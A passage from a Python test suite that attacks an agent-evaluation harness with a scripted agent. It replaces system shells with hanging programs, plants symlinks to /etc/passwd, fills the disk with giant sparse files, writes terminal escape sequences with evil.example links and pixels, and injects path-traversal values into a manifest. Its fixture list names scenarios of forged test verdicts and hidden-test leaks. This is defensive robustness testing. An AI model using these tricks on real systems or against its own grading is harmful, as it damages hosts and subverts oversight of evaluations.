        except OSError as exc:
            notes.append(f"MKNOD-{kind}={errno.errorcode.get(exc.errno, exc.errno)}")
    os.mkfifo(os.path.join(root, "fifo"))
    os.symlink("/etc/passwd", os.path.join(root, "passwd-link"))
    os.symlink("/", os.path.join(root, "root-link"))
    with open(os.path.join(root, "sparse-3g.bin"), "wb") as f:
        f.truncate(3 * 1024**3)
    deep, limit = root, min(depth, 4095)  # 4095: the longest path the kernel takes
    try:
        while len(deep) + 201 <= limit:
            deep = os.path.join(deep, "d" * 200)
            os.mkdir(deep)
        while len(deep) + 2 <= limit:
            deep = os.path.join(deep, "x")
            os.mkdir(deep)
    except OSError:
        pass
    notes.append(f"DEEP={len(deep)}")
    return " ".join(notes)
"""

JUNK_HOOK = (
    JUNK
    + r"""
import os
depth = {"101": 2000, "104": 4095}.get(os.environ.get("ISSUE_ID", ""))
if depth and os.path.isdir("/app/tests/issues") and not os.path.exists("/tmp/.swl-junk"):
    open("/tmp/.swl-junk", "w").close()
    junk("/app/expensify/user_tool/output_junk", depth)
"""
)

JUNK_PROGRAM = (
    JUNK
    + r"""
import os
tid = os.environ["ISSUE_ID"]
if tid == "101":  # junk in the trace folder (by the app, through the user tool) and left there
    print("LEFT", junk("/app/expensify/user_tool/output_left", 2000))
    os.mkfifo("repo-fifo")
    os.symlink("/etc/passwd", "passwd-link")
    os.symlink("/app/tests", "tests-link")
    deep = "deep"
    while len(deep) < 2000:
        deep = os.path.join(deep, "e" * 200)
    os.makedirs(deep)
    with open(os.path.join(deep, "bottom.txt"), "w") as f:
        f.write("the bottom\n")
    exec(PARAMS["install"])
elif tid == "102_1":  # the patch's limit
    with open("big-1g.bin", "wb") as f:
        f.truncate(1024**3)
    print("a 1 GB file in the repository")
elif tid == "103":  # a 4 KB-deep folder left for grading (not through the user tool)
    print("LEFT", junk("/app/expensify/user_tool/output_left", 4095))
elif tid == "104":  # the same, made by the app when the user tool runs it
    exec(PARAMS["install"])
else:
    with open("manager_decisions.json", "w") as f:
        f.write('{"selected_proposal_id": 1, "padding": "')
        f.truncate(3 * 1024**3)
    print("a 3 GB manager_decisions.json")
"""
)

LIST_TRACES = r"""
import subprocess
print(subprocess.run("ls -la user_tool user_tool/* 2>&1 | cut -c1-200 | head -60", shell=True,
                     capture_output=True, text=True).stdout)
"""


def junk_scenario(name: str, grade_in: str, user_tool_in: str) -> Scenario:
    code = program(JUNK_PROGRAM, install=INSTALL_HOOK, hook=app_hook(JUNK_HOOK))
    replies = [python_block(code), "A user, please.\n<user-tool>", python_block(LIST_TRACES)]
    replies.append("DONE")
    tasks = ["--task", "101", "--task", "102_1", "--task", "103", "--task", "104",
             "--task", "110-manager-0"]  # fmt: skip
    # No retries: the deep folders end in errors today, and each retry is one more setup.
    return Scenario(name, replies, [*tasks, "-j", "3", "--grade-in", grade_in, "--max-retries",
                                    "0", "--user-tool-in", user_tool_in])  # fmt: skip


JUNK_RUNS = {"junk-a": ("same", "fresh"), "junk-b": ("fresh", "same")}
"""Both grading modes and both user-tool modes: (grade_in, user_tool_in)."""


@pytest.mark.parametrize("name", list(JUNK_RUNS))
def test_junk_in_the_trace_folder_and_the_repository_is_a_failure_not_an_error(runs, name):
    """A FIFO, links, a 3 GB sparse file and a 2 KB-deep folder in user_tool/output_*, made by
    the app while the user tool runs and left there by the agent for grading; a FIFO and links
    in the repository."""
    run = runs.get(name)
    record = run.record("101")
    assert record["status"] == "failed" and record["error"] is None, record
    assert record["test_exit_codes"] == {"101": [1]}, record


@pytest.mark.parametrize("task", ["103", "104"])
@pytest.mark.parametrize("name", list(JUNK_RUNS))
def test_a_4kb_deep_folder_is_a_failure_not_an_error(runs, name, task):
    """A folder as deep as the kernel allows (4 KB of path) in user_tool/output_*: left there by
    the agent (103), or made by the app when the user tool runs it (104)."""
    run = runs.get(name)
    record = run.record(task)
    assert record["status"] == "failed" and record["error"] is None, (
        f"a deep folder ({'left for grading' if task == '103' else 'via the user tool'}, "
        f"{JUNK_RUNS[name]}) turned a failure into an error: {record}"
    )


@pytest.mark.parametrize("name", list(JUNK_RUNS))
def test_only_bounded_regular_files_reach_the_host(runs, name):
    """Devices (mknod is refused: MKNOD is dropped), FIFOs, links to /etc/passwd and /, 3 GB
    sparse files, a 1 GB file in the repository and a 3 GB manager_decisions.json: the attempt
    folders hold only regular files and folders within the caps, and the harness's memory
    stays bounded."""
    run = runs.get(name)
    left = next(out for out in run.outputs("101") if out.startswith("LEFT"))
    assert "MKNOD-block=EPERM" in left and "MKNOD-char=EPERM" in left, left
    odd, large = [], []
    for root, dirs, files in os.walk(run.path):
        for entry in dirs + files:
            path = Path(root) / entry
            mode = os.lstat(path).st_mode
            if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode)):
                odd.append(str(path.relative_to(run.path)))
            elif stat.S_ISREG(mode) and os.lstat(path).st_size > TRACE_CAP:
                large.append((str(path.relative_to(run.path)), os.lstat(path).st_size))
    assert not odd, odd
    assert not large, large
    assert run.peak_rss_kb < RSS_LIMIT_KB, f"the harness used {run.peak_rss_kb / 1024:.0f} MB"
    big = run.record("102_1")
    assert big["status"] == "failed" and "too large" in (big["reason"] or ""), big
    manager = run.record("110-manager-0")
    assert manager["status"] == "failed" and "too large" in (manager["reason"] or ""), manager
    assert not (run.folder("110-manager-0") / "decision.json").exists()


# -- attack 5: crashing or hanging the run --------------------------------------------------------

HANG_PROGRAM = r"""
import os
tid = os.environ["ISSUE_ID"]
PRINT = "#!/usr/bin/python3.11\nprint('I am not the program you are looking for. ' * 3)\n"
SLEEP = ("#!/usr/bin/python3.11\nimport signal, time\n"
         "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
         "    signal.signal(s, signal.SIG_IGN)\n"
         "print('sleeping forever', flush=True)\ntime.sleep(10**8)\n")
plan = {
    "101": dict.fromkeys(["sh", "bash", "find", "rm", "ls"], PRINT),
    "102_1": dict.fromkeys(["sh", "bash", "find", "rm", "ls"], SLEEP),
    "103": {"bash": PRINT, "find": SLEEP, "rm": SLEEP, "ls": SLEEP},
}[tid]
for name, text in plan.items():
    for path in ("/usr/bin/" + name, "/bin/" + name):  # /bin is /usr/bin in this image
        with open(path + ".swap", "w") as f:
            f.write(text)
        os.chmod(path + ".swap", 0o755)
        os.replace(path + ".swap", path)
print("replaced", sorted(plan))
"""


def hang_scenario() -> Scenario:
    return Scenario(
        "hang",
        [python_block(HANG_PROGRAM), "DONE"],
        ["--task", "101", "--task", "102_1", "--task", "103", "-j", "3",
         "--command-timeout", "30", "--test-timeout", "120"],
        bound_s=HANG_BOUND_S,
    )  # fmt: skip


def test_replaced_shells_and_tools_neither_crash_nor_hang_the_run(runs):
    """/bin/sh (= /usr/bin/sh), /bin/bash, find, rm and ls replaced by programs that print text
    (101), that sleep forever ignoring SIGTERM (102_1), or sleeping find, rm and ls with a
    printing bash (103). The run ends in bounded time with every attempt recorded once."""
    run = runs.get("hang")  # bounded by HANG_BOUND_S (with 30 s commands, 120 s test runs)
    records = run.records()
    assert sorted(records) == ["101", "102_1", "103"], records
    for task, record in records.items():
        assert record["status"] == "failed" and record["error"] is None, (task, record)
    print(f"the run took {run.seconds:.0f} s")


# -- attack 7: escapes to the terminal -------------------------------------------------------------

NASTY = (
    "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;owned-title\x07"  # OSC 0: the window title
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
    "\x1b[2J\x1b[H"  # clear the screen
    "\x9b31m\x9d0;c1-title\x9c\x85\x07\x1bc"  # C1 CSI and OSC, NEL, BEL, full reset
    "<script>alert(1)</script> ![pixel](https://evil.example/p.png)"
    " <img src=https://evil.example/i.png>"
)

ESCAPES_HOOK = (
    DAEMON
    + r"""
import glob, os, time
if os.path.isdir("/app/tests/issues") and not os.path.exists("/tmp/.swl-nasty"):
    open("/tmp/.swl-nasty", "w").close()
    def shout():
        end = time.time() + 600
        while time.time() < end:
            for folder in glob.glob("/app/tests/logs/*/"):
                if os.path.exists(folder + "pytest_exit_code"):
                    with open(folder + "pytest.log", "a") as f:
                        f.write("\n" + P["nasty"] + "\n")
                    return
            time.sleep(0.005)
    daemon(shout)
"""
)

ESCAPES_PROGRAM = r"""
import json, os, sys
nasty = PARAMS["nasty"]
print(nasty)
sys.stdout.flush()
os.write(1, b"raw bytes: \x9b\x9d\x1b[31m\x07 \xff\xfe\n")
tid = os.environ["ISSUE_ID"]
name = nasty.replace("/", "_")[:150]
if "manager" in tid:
    with open("manager_decisions.json", "w") as f:
        json.dump({"selected_proposal_id": nasty}, f)
elif tid == "101":
    with open(name + ".py", "w") as f:
        f.write(nasty)
    exec(PARAMS["install"])
else:  # a folder too deep for the engine, named with the escapes: they reach an error message
    deep = "/app/expensify/" + name
    os.makedirs(deep)
    try:
        while True:
            deep = deep + "/" + name
            os.mkdir(deep)
    except OSError:
        deep = deep.rsplit("/", 1)[0]
    try:
        while True:
            deep = deep + "/x"
            os.mkdir(deep)
    except OSError:
        pass
"""


def escapes_scenario() -> Scenario:
    code = program(ESCAPES_PROGRAM, nasty=NASTY, install=INSTALL_HOOK,
                   hook=app_hook(ESCAPES_HOOK, nasty=NASTY))  # fmt: skip
    replies = [f"{NASTY}\n{python_block(code)}", f"Just talking: {NASTY}", f"{NASTY}\nDONE"]
    tasks = ["--task", "101", "--task", "103", "--task", "110-manager-0"]
    return Scenario("escapes", replies, [*tasks, "-j", "3", "--max-retries", "0"])


def test_escape_sequences_reach_no_terminal_and_no_markdown(runs, tmp_path):
    """OSC 52/0/8, a screen clear, C1 controls and BEL in the agent's replies, its command
    output, a file name, the manager decision, pytest.log and an engine error message."""
    run = runs.get("escapes")
    assert NASTY in run.outputs("101")[0]  # the escapes really were there, in the transcript
    shown = {"run -q stderr": run.stderr, "run stdout": run.stdout,
             "run.log": (run.path / "run.log").read_text(encoding="utf-8")}  # fmt: skip
    results = run.path.parent
    commands = [("view", run.path.name, task) for task in ("101", "103", "110-manager-0")]
    commands += [("view", run.path.name, "101", "--full"), ("report", run.path.name),
                 ("report", run.path.name, "-f", "md")]  # fmt: skip
    for args in commands:
        done = subprocess.run(
            swelancer_cmd(*args, "--results-dir", str(results)), capture_output=True, timeout=120
        )
        assert done.returncode == 0, (args, done.stderr[-2000:])
        shown[" ".join(args)] = (done.stdout + done.stderr).decode("utf-8", "surrogateescape")
    found = {where: bad_terminal_chars(text) for where, text in shown.items()}
    assert not {k: v for k, v in found.items() if v}, found
    md = shown[f"report {run.path.name} -f md"]
    assert "<script" not in md.lower() and "<img" not in md.lower(), md[-2000:]
    assert not re.search(r"!\[[^\]]*\]\(\s*https?:", md), md[-2000:]


def test_files_the_harness_writes_hold_no_raw_control_characters(runs):
    """Beyond the brief: `attempts.jsonl` and `error.txt` are read with `cat`, `tail -f` and
    `jq`, and hold text the agent controls (here an engine error message naming its folder):
    escaped, never raw ESC, BEL or C1 controls. (patch.diff and the grading logs are the
    container's own bytes and are left as they are.)"""
    run = runs.get("escapes")
    files = [run.path / "attempts.jsonl", run.path / "run.json", *run.path.rglob("error.txt")]
    found = {}
    for path in files:
        bad = bad_terminal_chars(path.read_text(encoding="utf-8", errors="replace"))
        if bad:
            found[str(path.relative_to(run.path))] = bad
    assert not found, found


# -- attack 8: a hostile manifest ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "row"),
    [("question_id", "../../x", 2), ("acceptable_folders", "['../../../../etc']", 3)],
)
def test_a_hostile_manifest_is_refused_before_anything_is_written(tmp_path, column, value, row):
    import csv

    source = ROOT / "tasks" / "demo" / "manifest.csv"
    with source.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    rows[row][column] = value
    work = tmp_path / "work"
    work.mkdir()
    manifest = work / "hostile.csv"
    with manifest.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    def listing() -> dict[str, list[str]]:
        return {str(p): sorted(os.listdir(p)) for p in (tmp_path, tmp_path.parent, work)}

    before = listing()
    done = subprocess.run(
        swelancer_cmd("run", "--manifest", str(manifest), "--model", "mock/oracle",
                      "--results-dir", str(work / "results"), "--run-id", "hostile", "-q"),
        capture_output=True, text=True, timeout=300, cwd=work,
    )  # fmt: skip
    assert done.returncode == 2, done
    message = done.stderr.strip()
    assert "\n\n" not in message and "Traceback" not in message, message
    assert "hostile.csv" in message and f"row {row + 2}" in message and repr(column) in message
    assert listing() == before
    assert not (work / "results").exists()


# -- attack 9: two runs on one run id at once ------------------------------------------------------


def test_two_runs_on_one_run_id_at_once(demo_image, tmp_path):
    script = tmp_path / "script.json"
    script.write_text(json.dumps([python_block("import time; time.sleep(10); print('slept')")]))
    command = swelancer_cmd(
        "run", "--split", "demo", "--task", "110-manager-0", "--task", "111-manager-0",
        "--model", f"mock/scripted:{script}", "--results-dir", str(tmp_path / "results"),
        "--run-id", (same := unique("same")), "-q", "-j", "2",
    )  # fmt: skip
    with ThreadPoolExecutor(2) as pool:
        both = [pool.submit(execute, command, tmp_path / f"p{n}", 300) for n in (1, 2)]
        (a, b) = [f.result() for f in both]
    codes = sorted([a[0], b[0]])
    assert codes[0] == 0 and codes[1] != 0, (a, b)
    loser = a if a[0] else b
    assert "in use by pid" in loser[2] and same in loser[2], loser[2]
    assert "Traceback" not in loser[2]
    lines = (tmp_path / "results" / same / "attempts.jsonl").read_text().split("\n")
    keys = [(json.loads(x)["task_id"], json.loads(x)["attempt"]) for x in lines if x.strip()]
    assert sorted(keys) == [("110-manager-0", 1), ("111-manager-0", 1)], keys


# -- fixtures --------------------------------------------------------------------------------------

USES = {
    "test_processes_left_running_see_no_hidden_test_gold_patch_or_verdict": ["leak-ut-fresh",
                                                                              "leak-ut-same"],
    "test_the_app_run_by_the_user_tool_carries_no_hidden_test_out": ["leak-ut-fresh",
                                                                     "leak-ut-same"],
    "test_a_forged_test_run_earns_nothing": ["tamper-same", "tamper-fresh"],
    "test_the_grader_is_offline_and_holds_only_its_own_task": ["tamper-same", "tamper-fresh"],
    "test_hooks_filters_and_shims_neither_hide_the_change_nor_forge_the_verdict": ["tamper-same"],
    "test_breaking_the_test_run_is_a_failure_not_an_error": ["anomaly-same", "anomaly-fresh"],
    "test_a_link_where_the_tests_are_staged_is_a_failure_not_an_error": ["tmplink-same",
                                                                          "tmplink-fresh"],
    "test_junk_in_the_trace_folder_and_the_repository_is_a_failure_not_an_error": list(JUNK_RUNS),
    "test_a_4kb_deep_folder_is_a_failure_not_an_error": list(JUNK_RUNS),
    "test_only_bounded_regular_files_reach_the_host": list(JUNK_RUNS),
    "test_replaced_shells_and_tools_neither_crash_nor_hang_the_run": ["hang"],
    "test_escape_sequences_reach_no_terminal_and_no_markdown": ["escapes"],
    "test_files_the_harness_writes_hold_no_raw_control_characters": ["escapes"],
}  # fmt: skip
"""The harness runs each test reads; only those of the selected tests are started."""
ORDER = ["hang", "leak-ut-fresh", "leak-ut-same", "tamper-same", "tamper-fresh", "anomaly-same",
         "anomaly-fresh", "tmplink-same", "tmplink-fresh", "junk-a", "junk-b",
         "escapes"]  # fmt: skip
"""The slow, mostly idle `hang` first; then in the order of the tests, so that `-x` stops early."""


@pytest.fixture(scope="module")
def host_server(docker_client):
    """(server on 0.0.0.0, the address of this machine on the Docker bridge)."""
    server = HostServer()
    gateway = bridge_gateway(docker_client)
    yield server, gateway
    server.close()


@pytest.fixture(scope="module")
def runs(request, demo_image, docker_client, docker_run_id, host_server, tmp_path_factory):
    server, gateway = host_server
    wanted = {n for item in request.session.items for n in USES.get(item.originalname, [])}
    builders = {
        "leak-ut-fresh": lambda: leak_scenario("fresh"),
        "leak-ut-same": lambda: leak_scenario("same"),
        "tamper-same": lambda: tamper_scenario("same", gateway, server.port),
        "tamper-fresh": lambda: tamper_scenario("fresh", gateway, server.port),
        "anomaly-same": lambda: anomaly_scenario("same"),
        "anomaly-fresh": lambda: anomaly_scenario("fresh"),
        "tmplink-same": lambda: tmp_link_scenario("same"),
        "tmplink-fresh": lambda: tmp_link_scenario("fresh"),
        "junk-a": lambda: junk_scenario("junk-a", *JUNK_RUNS["junk-a"]),
        "junk-b": lambda: junk_scenario("junk-b", *JUNK_RUNS["junk-b"]),
        "hang": hang_scenario,
        "escapes": escapes_scenario,
    }
    base = tmp_path_factory.mktemp("attacks")
    started = Runs(base, f"{docker_run_id}-atk", docker_client)
    for name in ORDER:
        if name in wanted:
            started.start(builders[name]())
    yield started
    started.close()
    if not os.environ.get("SWELANCER_KEEP_ATTACKS"):  # set it to look at what the runs left
        shutil.rmtree(base, ignore_errors=True)  # gigabytes of caps-sized copies
